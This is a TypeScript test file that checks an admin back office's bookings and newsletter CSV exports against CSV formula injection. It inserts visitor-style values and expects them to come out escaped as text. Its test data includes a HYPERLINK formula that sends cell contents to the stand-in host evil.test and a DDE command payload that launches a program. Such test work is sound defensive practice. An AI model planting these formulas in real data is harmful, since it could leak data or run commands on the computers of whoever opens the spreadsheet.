import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { bookingsCsv } from '~/.server/admin/bookings-export'
import { subscribersCsv } from '~/.server/newsletter/newsletter'
import { adminCopy } from '~/content/admin'
import { newsletterCopy } from '~/content/newsletter'
import type { LocalSupabase } from '../../local/supabase/server'
import { readCsvStream } from '../support/csv'
import { serviceClient, signedIn, startTestSupabase } from '../support/supabase'
import { uniqueName, uniqueSlot } from '../support/unique'

// Every CSV export of the back office, fed what a visitor can type, read by the real code under an admin's
// session: a spreadsheet must get text, never a formula (issue 51, finding 2; OWASP's CSV injection rule).
let supabase: LocalSupabase
beforeAll(async () => {
	supabase = await startTestSupabase()
})
afterAll(() => supabase.stop())

const asAdmin = async () => (await signedIn(supabase.url, 'admin@kia.test', 'kia-admin-2025')).client

const hyperlink = '=HYPERLINK("http://evil.test/?"&D3;"Ver")'
const command = "=cmd|' /C calc'!A0"

describe('/admin/reuniones.csv (bookingsCsv)', () => {
	test('a name, reason, address or meeting link that begins like a formula is exported as text', async () => {
		const marker = uniqueName('csv')
		const email = `+${marker}@kia.test`
		const inserted = await serviceClient(supabase.url)
			.from('reservas')
			.insert({ ...uniqueSlot(), nombre: hyperlink, email, motivo: command, meet_url: '@SUM(1+1)' })
		expect(inserted.error).toBeNull()

		const stream = await bookingsCsv(await asAdmin(), { termino: marker, filters: {} })
		const [header, ...rows] = await readCsvStream(stream ?? new ReadableStream())
		expect(header).toEqual([...adminCopy.bookings.csvColumns])
		expect(rows).toHaveLength(1)
		const [fecha, hora, nombre, address, motivo, estado, enlace] = rows[0] ?? []
		expect({ nombre, address, motivo, enlace }).toEqual({
			nombre: `'${hyperlink}`,
			address: `'${email}`,
			motivo: `'${command}`,
			enlace: "'@SUM(1+1)",
		})
		// What the app itself writes is untouched.
		expect(fecha).toMatch(/^\d{4}-\d{2}-\d{2}$/)
		expect(hora).toMatch(/^\d{2}:\d{2}$/)
		expect(estado).toBe('Confirmada')
	})
})

describe('/admin/boletin.csv (subscribersCsv)', () => {
	test('addresses that begin with +, -, = or @ are exported as text', async () => {
		const marker = uniqueName('boletin-csv')
		const emails = ['+', '-', '=', '@'].map((start) => `${start}${marker}@kia.test`)
		const now = new Date().toISOString()
		const inserted = await serviceClient(supabase.url)
			.from('boletin_suscriptores')
			.insert(emails.map((email) => ({ email, estado: 'confirmado', confirmado_at: now })))
		expect(inserted.error).toBeNull()

		const stream = await subscribersCsv(await asAdmin())
		const [header, ...rows] = await readCsvStream(stream ?? new ReadableStream())
		expect(header).toEqual([...newsletterCopy.csvColumns])
		const ours = rows.filter(([email]) => email?.includes(marker))
		expect(ours.map(([email]) => email).sort()).toEqual(emails.map((email) => `'${email}`).sort())
		for (const [, confirmed, since] of ours) {
			expect(confirmed).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}$/)
			expect(since).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}$/)
		}
	})
})
